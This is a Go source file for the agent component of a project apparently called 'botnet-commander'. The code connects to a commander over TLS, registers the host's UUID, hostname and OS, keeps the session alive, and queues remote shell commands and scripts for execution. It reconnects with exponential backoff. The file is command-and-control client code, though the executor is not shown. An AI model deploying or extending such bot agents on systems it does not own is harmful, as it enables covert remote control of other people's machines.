package agent

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"sync/atomic"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/protocol"
)

// sendTimeout bounds every agent-side frame write.
const sendTimeout = 30 * time.Second

// Config holds the agent's connection settings.
type Config struct {
	// ServerAddr is the commander's agent-facing endpoint, host:port.
	ServerAddr string
	// TLS is the client TLS config (CA-verified or insecure fallback).
	TLS *tls.Config
	// IdentityPath is the identifier file; empty picks DefaultIdentityPath.
	IdentityPath string

	// RecvTimeout bounds each read from the commander. Expiry is not fatal,
	// the agent just keeps waiting.
	RecvTimeout time.Duration
	// IdleTimeout is the silence span after which a keepalive is due.
	IdleTimeout time.Duration
	// HelloFreq is the pause after sending a keepalive.
	HelloFreq time.Duration
	// MaxReconn caps the reconnect backoff exponent.
	MaxReconn int
	// BufferSize is the read buffer; zero picks the protocol default.
	BufferSize int
}

// Manager runs the agent's connect / identify / serve / reconnect loop.
type Manager struct {
	cfg      Config
	log      *zap.Logger
	executor *Executor

	uuid     string
	hostname string
	os       string
}

// NewManager loads (or mints) the agent identity and prepares the executor.
func NewManager(cfg Config, log *zap.Logger) (*Manager, error) {
	if cfg.IdentityPath == "" {
		cfg.IdentityPath = DefaultIdentityPath()
	}

	id, err := LoadOrCreateID(cfg.IdentityPath)
	if err != nil {
		return nil, err
	}
	hostname, osName, err := Describe()
	if err != nil {
		return nil, err
	}

	log = log.With(zap.String("uuid", id), zap.String("hostname", hostname))
	return &Manager{
		cfg:      cfg,
		log:      log,
		executor: NewExecutor(hostname, log),
		uuid:     id,
		hostname: hostname,
		os:       osName,
	}, nil
}

// Run drives the state machine until ctx is canceled. Every failure path
// funnels into the same reconnect backoff: sleep 2^counter seconds with the
// exponent capped at MaxReconn, reset to zero after a successful identify.
func (m *Manager) Run(ctx context.Context) error {
	m.executor.Start()
	defer m.executor.Stop()

	reconnects := 0
	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}

		framer, err := m.connect(ctx)
		if err != nil {
			m.log.Warn("connect failed", zap.Error(err))
			if !m.backoff(ctx, &reconnects) {
				return ctx.Err()
			}
			continue
		}

		if err := m.identify(framer); err != nil {
			m.log.Warn("identify failed", zap.Error(err))
			framer.Close()
			if !m.backoff(ctx, &reconnects) {
				return ctx.Err()
			}
			continue
		}

		reconnects = 0
		m.log.Info("session established", zap.String("server", m.cfg.ServerAddr))

		err = m.serve(ctx, framer)
		framer.Close()
		if ctx.Err() != nil {
			return ctx.Err()
		}
		m.log.Info("session lost, reconnecting", zap.Error(err))
		if !m.backoff(ctx, &reconnects) {
			return ctx.Err()
		}
	}
}

func (m *Manager) connect(ctx context.Context) (*protocol.Framer, error) {
	dialer := &tls.Dialer{
		NetDialer: &net.Dialer{Timeout: 10 * time.Second},
		Config:    m.cfg.TLS,
	}
	conn, err := dialer.DialContext(ctx, "tcp", m.cfg.ServerAddr)
	if err != nil {
		return nil, fmt.Errorf("agent: dial %s: %w", m.cfg.ServerAddr, err)
	}
	return protocol.NewFramer(conn, m.cfg.BufferSize), nil
}

// identify sends botHostInfo and waits for the ack within RecvTimeout.
func (m *Manager) identify(framer *protocol.Framer) error {
	info := protocol.NewBotHostInfo(m.uuid, m.hostname, m.os)
	if err := framer.WriteFrame(info, sendTimeout); err != nil {
		return err
	}

	frames, err := framer.ReadFrames(m.cfg.RecvTimeout)
	if err != nil {
		return fmt.Errorf("agent: await registration ack: %w", err)
	}
	msg, err := protocol.Decode(frames[0])
	if err != nil {
		return fmt.Errorf("agent: decode registration ack: %w", err)
	}
	if msg.Kind() != protocol.MsgBotHostInfoReply {
		return fmt.Errorf("agent: unexpected %s instead of registration ack", msg.Kind())
	}
	return nil
}

// serve is the RUN state: keepalives while idle, otherwise reads and
// dispatches frames. Returns when the connection must be rebuilt.
func (m *Manager) serve(ctx context.Context, framer *protocol.Framer) error {
	var lastOnline atomic.Int64
	lastOnline.Store(time.Now().UnixNano())
	touch := func() { lastOnline.Store(time.Now().UnixNano()) }

	sink := &framerSink{framer: framer, log: m.log, touch: touch}

	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}

		if time.Since(time.Unix(0, lastOnline.Load())) > m.cfg.IdleTimeout {
			if err := framer.WriteFrame(protocol.NewBotHello(), sendTimeout); err != nil {
				return fmt.Errorf("agent: keepalive: %w", err)
			}
			touch()
			if !sleepCtx(ctx, m.cfg.HelloFreq) {
				return ctx.Err()
			}
			continue
		}

		frames, err := framer.ReadFrames(m.cfg.RecvTimeout)
		if errors.Is(err, protocol.ErrTimeout) {
			// Nothing from the commander yet; not fatal.
			m.log.Debug("no request from commander, still waiting",
				zap.Duration("recv_timeout", m.cfg.RecvTimeout))
			continue
		}
		if err != nil {
			return err
		}

		for _, frame := range frames {
			msg, err := protocol.Decode(frame)
			if err != nil {
				// The commander speaking something unknown means this session
				// is not trustworthy; rebuild it.
				return fmt.Errorf("agent: undecodable frame: %w", err)
			}

			switch msg.Kind() {
			case protocol.MsgBotHostInfoReply, protocol.MsgBotHelloReply:
				touch()
			case protocol.MsgExeCommand, protocol.MsgExeScript:
				touch()
				m.executor.Enqueue(msg, sink)
			default:
				return fmt.Errorf("agent: unexpected %s from commander", msg.Kind())
			}
		}
	}
}

// backoff sleeps 2^counter seconds, bumping and capping the counter. Returns
// false when ctx ended during the sleep.
func (m *Manager) backoff(ctx context.Context, counter *int) bool {
	if *counter < m.cfg.MaxReconn {
		*counter++
	}
	delay := time.Duration(1<<uint(*counter)) * time.Second
	m.log.Info("backing off before reconnect", zap.Duration("delay", delay))
	return sleepCtx(ctx, delay)
}

func sleepCtx(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-timer.C:
		return true
	}
}

// framerSink delivers executor replies over the session that received the
// command. A write failure is logged and dropped; the commander's row simply
// stays unanswered.
type framerSink struct {
	framer *protocol.Framer
	log    *zap.Logger
	touch  func()
}

func (s *framerSink) SendReply(msg protocol.Message) {
	if err := s.framer.WriteFrame(msg, sendTimeout); err != nil {
		s.log.Warn("reply delivery failed", zap.String("kind", msg.Kind()), zap.Error(err))
		return
	}
	s.touch()
}
